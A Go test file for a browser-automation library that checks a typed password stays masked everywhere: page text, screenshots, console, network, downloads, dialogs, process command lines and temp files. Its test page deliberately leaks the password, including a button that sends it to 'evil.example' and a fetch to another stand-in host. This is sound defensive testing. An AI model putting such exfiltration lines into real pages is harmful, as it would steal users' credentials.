package act_test

import (
	"bytes"
	"context"
	"fmt"
	"image/jpeg"
	"io"
	"log/slog"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"belljar.dev/browser/act"
	"belljar.dev/internal/testenv"
)

// echoes is a login page that shows what is typed, in every way that it knows. Only the
// field gives the secret to the page.
const echoes = `<!doctype html><title>Login</title><label>Password <input type=password id=p></label><label>Other <input id=q></label><p id=o style="font:bold 20px monospace;color:#f00"></p><div id=rest style="font:bold 20px monospace;color:#f00"></div>
<button id=again>Again</button> <button onclick="alert('alert ' + v)">Alert</button> <button onclick="document.title = confirm('sure ' + v)">Confirm</button> <button onclick="document.title = prompt('name ' + v, v)">Prompt</button>
<button onclick="window.open('/child?v=' + encodeURIComponent(v))">Window</button> <button onclick="location = 'http://evil.example:PORT/refused?' + encodeURIComponent(v)">Leave</button>
<button onclick="const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['x'])); a.download = v + '.txt'; a.click()">File</button> <button onclick="again.textContent = v + ' again'">Change</button>
<button onclick="location = '/file/' + encodeURIComponent(v)">Named</button>
<script>
var v = "", once = false;
const put = (html, f) => { const e = document.createElement("div"); e.innerHTML = html; rest.append(e); f?.(e.firstElementChild) };
p.addEventListener("input", () => {
  v = p.value;
  if (once || v.length < 12) return;
  once = true;
  o.textContent = v;
  put("<b></b>", (e) => { e.textContent = btoa(v) }); put("<b></b>", (e) => { e.textContent = [...v].reverse().join("") }); put("<b></b>", (e) => { e.textContent = encodeURIComponent(v) });
  put("<b></b>", (e) => { for (const c of v) e.append(Object.assign(document.createElement("i"), {textContent: c})) });
  put("<button></button>", (e) => { e.textContent = v + " button" }); put("<button></button>", (e) => { e.setAttribute("aria-label", v) }); put("<a>link</a>", (e) => { e.href = "/x?" + v; e.textContent = "link " + v });
  put("<input>", (e) => { e.value = v }); put("<input>", (e) => { e.placeholder = v }); put("<textarea></textarea>", (e) => { e.value = v }); put("<select><option></select>", (e) => { e.options[0].text = v });
  put("<table><tr><td><td><button>Row</button></table>", (e) => { e.querySelector("td").textContent = v }); put("<img>", (e) => { e.alt = v }); put("<details open><summary></summary></details>", (e) => { e.firstChild.textContent = v });
  put("<div></div>", (e) => { e.attachShadow({mode: "open"}).textContent = v }); put("<div style=height:20px></div>", (e) => { e.attachShadow({mode: "closed"}).innerHTML = "<button></button>"; });
  put("<iframe width=300 height=40></iframe>", (e) => { e.srcdoc = "<body style='font:bold 20px monospace;color:#f00'>" + v + "<button>" + v + "</button>" }); put("<iframe width=300 height=40></iframe>", (e) => { e.src = "http://shop.example:PORT/child?v=" + encodeURIComponent(v) });
  document.title = "title " + v; history.replaceState(null, "", "/login?v=" + encodeURIComponent(v) + "#" + v);
  console.log("log", v); console.error("error " + v, {v}); console.warn(new Error(v)); setTimeout(() => { throw new Error("thrown " + v) }); Promise.reject(new Error("rejected " + v));
  fetch("/asked?v=" + encodeURIComponent(v)); new Image().src = "/image/" + encodeURIComponent(v); fetch("http://nowhere.example/" + v).catch(() => {});
});
</script>`

// TestSecretIsNowhere checks that a secret that was typed is in no text, picture, log, file
// or command line outside the page, although the page shows it in every way (BR28, BR29,
// BR-A29, BR-A30). The test counts the places in which it looked.
func TestSecretIsNowhere(t *testing.T) {
	testenv.Need(t, testenv.UserNamespaces, testenv.Chromium)
	const value = "CanaryMMMM-7hunter2&Ww"
	log := new(testenv.Log)
	s := newStageWith(t, slog.New(slog.NewTextHandler(log, &slog.HandlerOptions{Level: slog.LevelDebug})))
	origin := strings.TrimSuffix(s.url("shop", "/"), "/")
	s.seat = s.another(func(o *act.Options) {
		o.Secrets = []act.Secret{{Name: "pw", Origin: origin, Field: "password", Insecure: true, Value: func(context.Context) (string, error) { return value, nil }}}
	})
	s.page("/login", echoes)
	s.mux.HandleFunc("/child", func(w http.ResponseWriter, q *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = fmt.Fprintf(w, `<title>child %[1]s</title><body style="font:bold 20px monospace;color:#f00">%[1]s<script>console.log(%[1]q)</script>`, strings.ReplaceAll(q.URL.Query().Get("v"), "&", "&amp;"))
	})
	s.mux.HandleFunc("/file/", func(w http.ResponseWriter, q *http.Request) {
		w.Header().Set("Content-Disposition", fmt.Sprintf("attachment; filename=%q", strings.TrimPrefix(q.URL.Path, "/file/")))
		_, _ = io.WriteString(w, "a file")
	})

	places := map[string]string{}
	put := func(place, text string) {
		if text == "" {
			return
		}
		if _, ok := places[place]; ok {
			place += " again"
		}
		places[place] = text
	}
	look := func(place string, q act.LookRequest) string {
		k, err := s.seat.Look(s.ctx(), q)
		if err != nil {
			put(place+", error", err.Error())
			return ""
		}
		put(place, k.Text)
		put(place+", address", k.URL)
		put(place+", title", k.Title)
		if k.HTML != "" {
			put(place+", document", s.seat.Mask(k.HTML))
		}
		if k.Dialog != nil {
			put(place+", dialog", k.Dialog.Text)
		}
		return k.Text
	}
	do := func(place string, step act.Step) *act.Outcome {
		p, err := s.seat.Prepare(s.ctx(), "", step)
		if err != nil {
			put(place+", refused", err.Error())
			return nil
		}
		put(place+", facts", fmt.Sprintf("%+v", p.Facts))
		put(place+", words", p.Facts.Words())
		o, err := s.seat.Do(s.ctx(), p, step)
		if err != nil {
			put(place+", error", fmt.Sprint(err, cause(err)))
		}
		if o != nil {
			put(place+", line", o.Line)
			put(place+", stop", o.Stop)
			put(place+", after", o.URL)
			put(place+", files", strings.Join(o.Downloads, " "))
			if o.Dialog != nil {
				put(place+", dialog", o.Dialog.Text)
			}
		}
		return o
	}
	l := s.goTo(s.url("shop", "/login"))
	password := s.ref(l, `password "Password"`)
	do("fill", act.Step{Do: act.DoFill, Ref: password, Secret: "pw"})
	s.wait(func() bool {
		return strings.Contains(s.look(act.LookRequest{At: act.AtConsole}), "rejected") && strings.Contains(s.look(act.LookRequest{At: act.AtNetwork}), "nowhere")
	})
	l = look("page", act.LookRequest{})
	if !strings.Contains(l, "(secret pw)") || !strings.Contains(l, `password "Password" filled`) {
		t.Fatalf("the page does not show the secret, so nothing is tried:\n%s", l)
	}
	all := look("whole page", act.LookRequest{Scope: act.ScopeAll, MaxChars: act.MaxChars})
	for name, q := range map[string]act.LookRequest{
		"changes": {At: act.AtChanges}, "text": {At: act.AtText}, "console": {At: act.AtConsole}, "network": {At: act.AtNetwork}, "tabs": {At: act.AtTabs}, "found lines": {Find: "link"}, "nothing found": {Find: "no such words"},
		"a part": {Scope: act.ScopeAll, MaxChars: 600}, "frame": {In: s.ref(all, "") /* the first control */}, "no such tab": {Tab: "t9"},
	} {
		look(name, q)
	}
	for _, m := range regexp.MustCompile(`frame \[(\d+)\]`).FindAllStringSubmatch(all, -1) {
		n, _ := strconv.Atoi(m[1])
		look("frame "+m[1], act.LookRequest{In: n})
	}
	red := func() (n int) {
		k, err := s.seat.Look(s.ctx(), act.LookRequest{At: act.AtPicture})
		if err != nil {
			t.Fatal(err, cause(err))
		}
		img, err := jpeg.Decode(bytes.NewReader(k.Picture))
		if err != nil {
			t.Fatal(err)
		}
		for y := range k.Height {
			for x := range k.Width {
				if r, g, b, _ := img.At(x, y).RGBA(); r > 0xa000 && g < 0x5000 && b < 0x5000 {
					n++
				}
			}
		}
		return n
	}
	for _, step := range []act.Step{{Do: act.DoScroll, Text: "top"}, {Do: act.DoScroll, Text: "down"}} {
		do("scroll", step)
		n := red()
		t.Logf("%d red pixels", n)
		if n > 700 { // letters of the page's own words, such as "link" and "button", stay red
			t.Errorf("after %s the picture shows %d red pixels", step.Text, n)
		}
		places["picture, "+step.Text] = "painted"
	}
	ref := func(name string) int { return s.ref(all, `button "`+name+`"`) }
	do("eval", act.Step{Do: act.DoEval, Text: "document.querySelector('input').value"})
	do("pdf", act.Step{Do: act.DoPDF, Path: "/workspace/x.pdf"})
	do("wait", act.Step{Do: act.DoWait, Text: "no such words", MS: 50})
	do("select", act.Step{Do: act.DoSelect, Ref: s.ref(all, "select"), Text: "none"})
	do("click of a field", act.Step{Do: act.DoClick, Ref: s.ref(all, `button "(secret pw) button"`)})
	do("alert", act.Step{Do: act.DoClick, Ref: ref("Alert")})
	for _, name := range []string{"Confirm", "Prompt"} {
		do(name, act.Step{Do: act.DoClick, Ref: ref(name)})
		look(name+", look", act.LookRequest{})
		do(name+", another step", act.Step{Do: act.DoHover, Ref: ref(name)})
		do(name+", answer", act.Step{Do: act.DoDialog, Accept: new(false)})
	}
	do("change", act.Step{Do: act.DoClick, Ref: ref("Change")})
	do("stale", act.Step{Do: act.DoClick, Ref: ref("Again")})
	look("changes after it", act.LookRequest{At: act.AtChanges})
	do("refused document", act.Step{Do: act.DoClick, Ref: ref("Leave")})
	// Keys copy nothing out of the field, and the text that they put elsewhere is masked
	// (BR-A30).
	other := s.ref(all, `text "Other"`)
	for _, key := range []string{"Control+a", "Control+c", "Control+x"} {
		do("key "+key, act.Step{Do: act.DoPress, Ref: password, Text: key})
	}
	do("key Control+v", act.Step{Do: act.DoPress, Ref: other, Text: "Control+v"})
	look("pasted", act.LookRequest{})
	do("file", act.Step{Do: act.DoClick, Ref: ref("File")})
	do("named file", act.Step{Do: act.DoClick, Ref: ref("Named")})
	look("downloads", act.LookRequest{At: act.AtDownloads})
	if o := do("save", act.Step{Do: act.DoSave, Download: "d1", Path: "/workspace/x"}); o != nil && o.File != nil {
		put("name of a file", o.File.Name)
		_ = o.File.Content.Close()
	}
	if o := do("window", act.Step{Do: act.DoClick, Ref: ref("Window")}); o == nil || len(o.Opened) == 0 {
		t.Fatalf("the window did not open: %+v", o)
	}
	look("tabs with a window", act.LookRequest{At: act.AtTabs})
	look("window, page", act.LookRequest{Tab: "t2"})
	look("window, console", act.LookRequest{Tab: "t2", At: act.AtConsole})
	look("window, network", act.LookRequest{Tab: "t2", At: act.AtNetwork})
	put("names of secrets", fmt.Sprint(s.seat.SecretsHere("")))
	put("list of seats", fmt.Sprintf("%+v", s.seats.List()))
	for i, text := range processes(t) {
		put("process "+strconv.Itoa(i), text)
	}
	s.seat.Kill()
	look("after the browser died", act.LookRequest{})
	put("log", log.String()+" ")

	forms := []string{value, "hunter2", "2retnuh", "CanaryMMMM", "Q2FuYXJ5TU1NTS"}
	for place, text := range places {
		for _, form := range forms {
			if strings.Contains(text, form) {
				t.Errorf("%s has %s:\n%s", place, form, text)
			}
		}
	}
	if len(places) < 40 {
		t.Errorf("only %d places", len(places))
	}
	t.Logf("%d places, 0 hits", len(places))
}

// TestSecretsAreMaskedBeforeTheyAreCut checks that no text shows the beginning of a secret
// because it is too long, and was cut within the secret.
func TestSecretsAreMaskedBeforeTheyAreCut(t *testing.T) {
	const value = "Canary-0123456789-0123456789"
	s := newStage(t)
	s.seat = s.another(func(o *act.Options) {
		o.Secrets = []act.Secret{{Name: "pw", Origin: fmt.Sprintf("http://shop.example:%d", s.port), Field: "password", Insecure: true, Value: func(context.Context) (string, error) { return value, nil }}}
		o.Judge = func(_ context.Context, n act.Navigation) error {
			if strings.Contains(n.URL, "refused") {
				return fmt.Errorf("%s %s is not allowed", strings.Repeat("word ", 50), n.URL)
			}
			return nil
		}
	})
	s.page("/login", `<!doctype html><input type=password id=p aria-label=Password><div id=o></div><button onclick="location = '/refused?' + p.value">Leave</button><script>
p.addEventListener("input", () => {
  const v = p.value, a = (n) => "a".repeat(n) + " " + v;
  o.innerHTML = "<canvas width=9 height=9></canvas><div tabindex=0 role=slider></div><select aria-label=Some><option><option></select><select aria-label=Many multiple></select><div style='position:relative'><button id=under style='width:400px;height:40px'>Under</button><div role=button id=over style='position:absolute;left:0;top:0;width:400px;height:60px;background:#fff'></div></div><pre></pre>";
  o.querySelector("canvas").setAttribute("aria-label", a(70));
  o.querySelector("[role=slider]").setAttribute("aria-valuenow", a(30));
  o.querySelector("select").options[0].text = a(30);
  o.querySelector("select").options[1].text = a(50);
  o.querySelectorAll("select")[1].innerHTML = "<option selected>" + a(70);
  over.textContent = a(70);
  o.querySelector("pre").textContent = "b ".repeat(9995) + v;
})</script>`)
	l := s.goTo(s.url("shop", "/login"))
	s.must(act.Step{Do: act.DoFill, Ref: s.ref(l, `password "Password"`), Secret: "pw"})
	l = s.look(act.LookRequest{Scope: act.ScopeAll, MaxChars: act.MaxChars})
	if !strings.Contains(l, "incomplete, limit reached: text") {
		t.Errorf("a look without the end of a text does not say so:\n%.300s", l)
	}
	texts := []string{l}
	for _, step := range []act.Step{
		{Do: act.DoSelect, Ref: s.ref(l, `select "Some"`), Text: "none of them"},
		{Do: act.DoClick, Ref: s.ref(l, `button "Under"`)},
		{Do: act.DoClick, Ref: s.ref(l, `button "Leave"`)},
		{Do: act.DoOpen, URL: s.url("shop", "/refused?x="+value)},
	} {
		o, err := s.do(step)
		texts = append(texts, fmt.Sprintf("%v %+v", err, o))
	}
	for _, text := range texts {
		if at := strings.Index(text, "Canary"); at >= 0 {
			t.Errorf("a text shows the beginning of the secret: %q", text[max(0, at-100):min(len(text), at+60)])
		}
	}
	if !strings.Contains(texts[1], "(secret") || !strings.Contains(texts[2], "is covered by") || !strings.Contains(texts[3], "word") || !strings.Contains(texts[4], "word") {
		t.Errorf("the steps were not refused as they should be: %q", texts[1:])
	}
}

// processes returns the command line of each process that this process has started, and the
// content of the files in its /tmp, except the files in which Chrome keeps the pages that
// it shows.
func processes(t *testing.T) (all []string) {
	t.Helper()
	for _, pid := range descendants() {
		dir := filepath.Join("/proc", strconv.Itoa(pid))
		line, _ := os.ReadFile(filepath.Join(dir, "cmdline"))
		all = append(all, string(line)+" ")
		var b strings.Builder
		_ = filepath.WalkDir(filepath.Join(dir, "root", "tmp"), func(file string, d os.DirEntry, err error) error {
			if err == nil && d.IsDir() && (d.Name() == "profile" || d.Name() == "cache") {
				return filepath.SkipDir
			}
			// a file that cannot be read does not count as a place
			if err == nil && d.Type().IsRegular() && b.Len() < 64<<20 {
				text, _ := os.ReadFile(file)
				b.WriteString(file + string(text))
			}
			return nil
		})
		if b.Len() > 0 {
			all = append(all, b.String())
		}
	}
	return all
}

// descendants returns the PIDs of the running processes that this process and its
// descendants have started. It leaves out the keeper of a supervisor, which runs as long as
// the supervisor.
func descendants() (all []int) {
	for _, p := range testenv.Below(testenv.Processes(), os.Getpid()) {
		if p.PID != os.Getpid() && p.State != "Z" && p.Name != "belljar-keeper" {
			all = append(all, p.PID)
		}
	}
	return all
}
